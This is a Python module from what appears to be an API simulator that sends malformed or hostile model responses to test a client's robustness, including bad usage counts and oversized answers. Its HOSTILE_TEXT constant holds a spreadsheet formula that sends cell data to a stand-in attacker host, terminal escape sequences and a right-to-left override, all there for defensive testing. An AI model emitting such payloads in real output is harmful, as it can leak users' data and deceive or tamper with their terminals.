"""Hostile answers: 200s a real provider (or a proxy bug) can send that a client must not believe.

Fault kinds (faults.py lists them with the others; server.py applies them to
an answer that was admitted, like the delivery faults):

``no_choices``
    Non-streaming: the answer with ``"choices": []`` and its usage: billed,
    nothing to use.
``bad_usage``
    The answer with negative token counts (prompt -1,000,000, completion -5):
    priced as given, it would lower the run's total. Streams: the usage chunk.
``huge_usage``
    The answer claiming 10^12 prompt tokens (no model takes that many).
    Streams: the usage chunk.
``fraction_usage``
    Non-streaming: token counts that are not integers (10.5).
``string_usage``
    Non-streaming: ``"usage": "lots"``.
``array_body``
    Non-streaming: a 200 whose JSON body is an array (holding the answer).
``hostile_text``
    The answer's text is `HOSTILE_TEXT`: a spreadsheet formula, terminal
    escape sequences (an OSC that sets the window title, a screen clear) and
    a right-to-left override. Plain and streamed.
``huge_answer``
    The answer's text is ``size_bytes`` bytes long (default 8 MB), its usage
    unchanged. Plain and streamed.

Standard library only, like the rest of the simulator.
"""

from __future__ import annotations

from batchrun.sim.jsontypes import JSONObject
from batchrun.sim.replies import Answer

#: Kinds that change the answer itself (its text or its usage), streamed or not.
ANSWER_KINDS: frozenset[str] = frozenset({"bad_usage", "huge_usage", "hostile_text", "huge_answer"})
#: Kinds that change the shape of a non-streamed body (a stream is sent normally).
BODY_KINDS: frozenset[str] = frozenset({"no_choices", "fraction_usage", "string_usage", "array_body"})
HOSTILE_KINDS: frozenset[str] = ANSWER_KINDS | BODY_KINDS

#: What ``hostile_text`` answers: a formula a spreadsheet would evaluate, an OSC 0 (window
#: title) sequence, a CSI that clears the screen, a C1 CSI, and a right-to-left override.
HOSTILE_TEXT = ('=HYPERLINK("http://evil.example/?x="&A1,"click")'
                "\x1b]0;pwned\x07\x1b[2J\x9b31m\u202eevil\u202c bug")
DEFAULT_HUGE_ANSWER_BYTES = 8 * 1024 * 1024
HUGE_TOKENS = 10**12
_PIECE = "lorem ipsum dolor sit amet, " * 37 + "\n"  # about 1 KB per token piece


def reshape_answer(kind: str, answer: Answer, size_bytes: float | None = None) -> Answer:
    """The Answer as an ANSWER_KINDS fault makes it (changed in place)."""
    if kind == "bad_usage":
        answer.usage = {"prompt_tokens": -1_000_000, "completion_tokens": -5, "total_tokens": -1_000_005}
    elif kind == "huge_usage":
        completion = answer.usage["completion_tokens"]
        answer.usage = {"prompt_tokens": HUGE_TOKENS, "completion_tokens": completion,
                        "total_tokens": HUGE_TOKENS + completion}
    elif kind == "hostile_text":
        answer.tokens = [HOSTILE_TEXT]
        answer.tool_name = None
        answer.finish_reason = "stop"
    elif kind == "huge_answer":
        size = int(DEFAULT_HUGE_ANSWER_BYTES if size_bytes is None else size_bytes)
        pieces, rest = divmod(size, len(_PIECE))
        answer.tokens = [_PIECE] * pieces + ([_PIECE[:rest]] if rest else [])
        answer.tool_name = None
        answer.finish_reason = "stop"
    return answer


def reshape_payload(kind: str, payload: JSONObject) -> object:
    """The JSON value a non-streamed `payload` becomes under a BODY_KINDS fault, or a no-usage one
    (faults.NO_USAGE_KINDS: usage_null sends "usage": null, no_usage and drop_usage none at all);
    `payload` itself for any other kind."""
    if kind == "usage_null":
        return {**payload, "usage": None}
    if kind in ("no_usage", "drop_usage"):
        return {key: value for key, value in payload.items() if key != "usage"}
    if kind == "no_choices":
        return {**payload, "choices": []}
    if kind == "fraction_usage":
        usage = payload["usage"]
        assert isinstance(usage, dict)
        return {**payload, "usage": {"prompt_tokens": usage["prompt_tokens"] + 0.5,
                                     "completion_tokens": usage["completion_tokens"],
                                     "total_tokens": usage["total_tokens"] + 0.5}}
    if kind == "string_usage":
        return {**payload, "usage": "lots"}
    if kind == "array_body":
        return [payload]
    return payload
